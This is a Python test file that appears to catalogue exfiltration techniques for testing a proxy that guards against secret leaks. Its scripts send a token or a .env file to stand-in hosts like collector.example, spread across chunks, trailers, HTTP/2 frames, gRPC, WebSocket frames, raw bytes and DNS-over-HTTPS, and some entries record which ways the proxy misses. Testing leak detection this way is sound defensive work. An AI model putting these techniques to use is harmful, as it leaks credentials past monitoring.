"""Other protocols, and other shapes of the same: pieces, trailers, messages, bytes."""

from __future__ import annotations

import base64

from evasion.claim import Claim, Family
from evasion.sends.way import Way


def _python(code: str) -> str:
    return f"python 'note(); s = secret()\n{code}'"


def _halves(value: bytes) -> tuple[bytes, ...]:
    return value[:17], value[17:]


PROTOCOLS = Family(
    "Protocols, and pieces",
    (
        Way(
            id="chunks",
            title="split over two chunks of an upload",
            script=_python(
                'ask(tunnel("collector.example"), request(b"a" * 100 + s[:17].encode(), s[17:].encode() + b"b"))'
            ),
        ),
        Way(
            id="small-chunks",
            title="a chunk for each character",
            script=_python('ask(tunnel("collector.example"), request(*(c.encode() for c in s)))'),
        ),
        Way(
            id="slow-chunks",
            title="an upload from a pipe that is written in two halves",
            script='. ./.env; { printf %s "$(echo "$TOKEN" | cut -c1-17)"; sleep 0.3; echo "$TOKEN" | cut -c18-; } | '
            'noted curl -sS -T - "$URL"',
        ),
        Way(
            id="trailers",
            title="trailers of HTTP/1.1",
            script=_python(
                'c = tunnel("collector.example"); c.settimeout(3); whole = request(b"x", head="Trailer: X-Sum")\n'
                'ask(c, whole[:-2] + b"X-Sum: " + s.encode() + b"\\r\\n\\r\\n")'
            ),
            stopped=True,
            claim=Claim.MISSED,
            remark="the proxy passes no such trailers on; nothing leaves",
        ),
        Way(
            id="pipelined",
            title="the second of two pipelined requests",
            script=_python(
                'c = tunnel("collector.example")\n'
                'got = ask(c, b"GET /x HTTP/1.1\\r\\nHost: collector.example\\r\\n\\r\\n" + request(s.encode()))\n'
                'while got.count(b"ok\\n") < 2:\n    got += ask(c)'
            ),
        ),
        Way(
            id="expect",
            title="a body that waits for `100 Continue`",
            script='noted curl -sS -H "Expect: 100-continue" -T .env "$URL"',
        ),
        Way(
            id="two-requests",
            title="a half in each of two requests",
            script=_python("post(s[:17].encode()); post(s[17:].encode())"),
            arrives=_halves,
            claim=Claim.MISSED,
            remark="requests are not put together",
        ),
        Way(
            id="two-headers",
            title="a half in each of two headers",
            script=". ./.env; rest=${TOKEN#?????????????????}; "
            'noted curl -sS -H "X-A: ${TOKEN%"$rest"}" -H "X-B: $rest" "$URL"',
            arrives=_halves,
            claim=Claim.MISSED,
            remark="headers are not put together",
        ),
        Way(
            id="letter-by-letter",
            title="a request for each character",
            script=_python('for n, c in enumerate(s):\n    post(b"", path=f"/{ID}/{n}/{c}/")'),
            arrives=lambda value: tuple(b"/letter-by-letter/%d/%c/" % (n, c) for n, c in enumerate(value)),
            claim=Claim.MISSED,
            remark="requests are not put together",
        ),
        Way(id="h2", title="HTTP/2: the body", script='noted curl -sS --http2 -d @.env "$TWO"', host="two.example"),
        Way(
            id="h2-header",
            title="HTTP/2: a header",
            script='. ./.env; noted curl -sS --http2 -H "X-Note: $TOKEN" "$TWO"',
            host="two.example",
        ),
        Way(
            id="h2-header-name",
            title="HTTP/2: the name of a header",
            script=_python('two = Two(("x-" + s.lower(), "1")); two.send(b"x", end=True); two.finish()'),
            arrives=lambda value: (value.lower(),),
            host="two.example",
        ),
        Way(
            id="h2-frames",
            title="HTTP/2: split over two frames",
            script=_python("two = Two(); two.send(s[:17].encode()); two.send(s[17:].encode(), end=True); two.finish()"),
            host="two.example",
        ),
        Way(
            id="h2-trailers",
            title="HTTP/2: trailers",
            script=_python(
                'two = Two(); two.send(b"x"); two.conn.send_headers(1, [("x-sum", s)], end_stream=True); two.finish()'
            ),
            host="two.example",
        ),
        Way(
            id="grpc",
            title="a gRPC message",
            script=_python(
                'two = Two(("content-type", "application/grpc"), ("te", "trailers"))\n'
                'message = b"\\x0a" + bytes([len(s)]) + s.encode()\n'
                'two.send(b"\\0" + len(message).to_bytes(4, "big") + message, end=True); two.finish()'
            ),
            host="two.example",
        ),
        Way(
            id="grpc-gzip",
            title="a compressed gRPC message",
            script=_python(
                "import gzip\n"
                'two = Two(("content-type", "application/grpc"), ("grpc-encoding", "gzip"), ("te", "trailers"))\n'
                'message = gzip.compress(b"\\x0a" + bytes([len(s)]) + s.encode())\n'
                'two.send(b"\\1" + len(message).to_bytes(4, "big") + message, end=True); two.finish()'
            ),
            opened=lambda body: __import__("gzip").decompress(body[5:]),
            host="two.example",
        ),
        Way(
            id="ws-text",
            title="WebSocket: a text message",
            script=_python("WebSocket().text(s)"),
            host="socket.example",
        ),
        Way(
            id="ws-binary",
            title="WebSocket: a binary message",
            script=_python(
                "w = WebSocket(); w.exchange(w.events.BytesMessage(data=b'\\0\\1' + s.encode()))".replace("'", '"')
            ),
            host="socket.example",
        ),
        Way(
            id="ws-compressed",
            title="WebSocket: compressed",
            script=_python("WebSocket(compressed=True).text(s)"),
            host="socket.example",
        ),
        Way(
            id="ws-split",
            title="WebSocket: split over two messages",
            script=_python("w = WebSocket(); w.text(s[:17]); w.text(s[17:])"),
            arrives=_halves,
            host="socket.example",
            claim=Claim.MISSED,
            remark="messages are not put together",
        ),
        Way(
            id="ws-frames",
            title="WebSocket: one message in two frames",
            script=_python(
                "w = WebSocket()\n"
                "w.exchange(w.events.TextMessage(data=s[:17], message_finished=False), answered=False)\n"
                "w.text(s[17:])"
            ),
            host="socket.example",
        ),
        Way(
            id="ws-ping",
            title="WebSocket: a ping",
            script=_python("w = WebSocket(); w.exchange(w.events.Ping(payload=s.encode()))"),
            host="socket.example",
        ),
        Way(
            id="ws-close",
            title="WebSocket: the reason of a close",
            script=_python("w = WebSocket(); w.exchange(w.events.CloseConnection(code=1000, reason=s))"),
            host="socket.example",
        ),
        Way(
            id="raw",
            title="bytes of no protocol through the proxy's CONNECT",
            script=_python(
                'c = tunnel("raw.example", 9000, tls=False); ask(c); ask(c, b"NOTE " + s.encode() + b"\\n")'
            ),
            host="raw.example",
        ),
        Way(
            id="raw-split",
            title="the same, a character a segment",
            script=_python('c = tunnel("raw.example", 9000, tls=False); ask(c)\nfor x in s:\n    ask(c, x.encode())'),
            host="raw.example",
        ),
        Way(
            id="raw-tls",
            title="bytes of no protocol in TLS",
            script=_python('c = tunnel("tls.example", 9000, alpn=""); ask(c); ask(c, b"NOTE " + s.encode() + b"\\n")'),
            host="tls.example",
        ),
        Way(
            id="doh",
            title="a question of DNS over HTTPS",
            script=_python(
                "import base64\n"
                'name = bytes([len(s)]) + s.encode() + b"\\7example\\0"\n'
                'query = b"\\0\\1\\1\\0\\0\\1" + bytes(6) + name + b"\\0\\1\\0\\1"\n'
                'post(b"", path=f"/{ID}?dns=" + base64.urlsafe_b64encode(query).decode().rstrip("="))'
            ),
            arrives=lambda value: (base64.urlsafe_b64encode(bytes([len(value)]) + value)[4:40],),
        ),
    ),
)
